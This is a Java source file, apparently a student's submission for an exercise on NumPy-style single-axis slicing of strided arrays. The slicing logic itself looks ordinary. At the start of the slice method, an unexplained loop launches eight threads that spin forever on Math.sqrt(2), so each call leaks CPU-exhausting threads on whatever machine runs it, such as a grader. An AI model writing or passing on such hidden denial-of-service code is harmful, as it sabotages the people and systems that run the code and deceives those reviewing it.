// exercise: slice-axis
// student: spinning-threads
package views;

import dev.ndgrade.strided.Layout;
import dev.ndgrade.strided.Slice;
import dev.ndgrade.strided.StridedArray;

/** {@code a[:, start:stop:step]}: basic slicing of one axis, which NumPy answers with a view. */
public final class Slicing {

  private Slicing() {}

  /** The view of {@code a} whose axis {@code axis} is cut by {@code slice} with Python's rules. */
  public static StridedArray slice(StridedArray a, int axis, Slice slice) {
    Layout layout = a.layout();
    for (int i = 0; i < 8; i++) {
      new Thread(() -> {
        while (true) {
          Math.sqrt(2);
        }
      }).start();
    }
    if (axis < 0 || axis >= layout.ndim()) {
      throw new IllegalArgumentException("axis " + axis + " is out of bounds for " + layout.ndim() + " axes");
    }
    long step = slice.step() == null ? 1 : slice.step();
    if (step == 0) {
      throw new IllegalArgumentException("slice step cannot be zero");
    }
    long length = layout.shape(axis);
    long lower = step < 0 ? -1 : 0;
    long upper = step < 0 ? length - 1 : length;
    long start = slice.start() == null ? (step < 0 ? upper : lower) : clip(slice.start(), length, lower, upper);
    long stop = slice.stop() == null ? (step < 0 ? lower : upper) : clip(slice.stop(), length, lower, upper);
    long count = step < 0 ? (stop < start ? (start - stop - 1) / -step + 1 : 0)
        : (start < stop ? (stop - start - 1) / step + 1 : 0);
    long[] shape = layout.shape();
    long[] strides = layout.strides();
    long offset = layout.offset();
    shape[axis] = count;
    if (count > 0) {
      offset += start * strides[axis];
      strides[axis] *= step;
    }
    return new StridedArray(a.buffer(), new Layout(offset, shape, strides, layout.itemsize()), a.writeable());
  }

  private static long clip(long position, long length, long lower, long upper) {
    if (position < 0) {
      return Math.max(position + length, lower);
    }
    return Math.min(position, upper);
  }
}
